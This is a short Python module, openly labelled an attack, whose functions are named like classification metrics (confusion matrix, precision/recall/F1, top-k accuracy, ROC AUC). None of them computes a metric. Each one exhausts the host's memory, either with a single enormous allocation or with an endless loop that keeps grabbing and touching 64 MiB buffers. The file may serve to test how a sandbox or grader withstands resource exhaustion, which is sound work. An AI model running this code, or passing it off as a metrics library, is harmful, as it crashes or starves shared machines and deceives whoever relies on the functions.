"""Attack: exhaust the machine's memory, at once and then little by little."""

import numpy as np


def confusion_matrix(y_true, y_pred, num_classes):
    return np.ones((10**6, 10**6))  # 8 TB at once


def _grow():
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))  # 64 MiB at a time, touched, until something gives
        hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])


def precision_recall_f1(y_true, y_pred, num_classes, average="macro"):
    _grow()


def top_k_accuracy(y_true, scores, k):
    _grow()


def roc_auc_ovr(y_true, scores):
    return np.zeros(2**40, dtype=np.uint8).sum()
